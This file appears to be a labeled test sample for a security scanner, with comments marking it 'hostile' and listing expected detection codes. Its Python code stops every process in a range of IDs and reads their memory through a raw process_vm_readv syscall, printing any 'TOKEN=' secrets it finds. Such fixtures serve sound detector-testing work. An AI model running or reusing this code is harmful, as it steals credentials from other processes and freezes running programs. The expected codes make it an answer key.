# label: hostile
# expect: V202 V401 V402
# note: Stops a sibling process and reads its memory by the numbers of process_vm_readv.
import ctypes
import os
import signal


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc = ctypes.CDLL(None, use_errno=True)


def peek(pid, address, n=4096):
    buf = ctypes.create_string_buffer(n)
    here = Iovec(ctypes.addressof(buf), n)
    there = Iovec(address, n)
    got = libc.syscall(310, pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    return buf.raw[:got] if got > 0 else b""


for pid in range(2, 60):
    try:
        os.kill(pid, signal.SIGSTOP)
    except OSError:
        continue
    data = peek(pid, 0x7FFF00000000)
    if b"TOKEN=" in data:
        print(pid, data)
